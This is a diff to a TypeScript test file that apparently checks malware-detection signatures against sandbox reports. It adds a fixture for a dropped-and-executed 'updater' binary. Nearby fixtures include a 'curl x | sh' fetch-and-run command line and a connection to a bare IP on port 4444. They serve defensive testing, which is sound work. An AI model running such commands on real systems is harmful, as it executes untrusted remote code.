@@ -41,6 +41,10 @@ function fired(report: Report, name: string): ReturnType<typeof runSignatures>['
 /** For each rule: a change of the clean report that must fire it. */
 const FIRES: Record<string, (r: Report & { behavior: Report; network: Report }) => void> = {
   drops_executable: (r) => { (r.dropped as Report[]).push({ name: 'x', filepath: 'C:\\Users\\a\\x.bin', type: 'PE32 executable (GUI) Intel 80386, for MS Windows' }) },
+  drops_and_runs_executable: (r) => {
+    ;((r.behavior.summary as Report).file_created as string[]).push('/home/user/.local/bin/updater')
+    ;(r.behavior.processes as Report[]).push({ pid: 103, ppid: 100, process_name: 'updater', process_path: '/home/user/.local/bin/updater', command_line: 'updater' })
+  },
   starts_shell: (r) => { (r.behavior.processes as Report[]).push({ pid: 101, ppid: 100, process_name: 'sh', process_path: '/bin/sh', command_line: 'sh -c "curl x | sh"' }) },
   contacts_bare_ip: (r) => { (r.network.tcp as Report[]).push({ src: '10.0.0.2', sport: 40001, dst: '45.33.32.156', dport: 4444 }) },
   resolves_many_domains: (r) => {
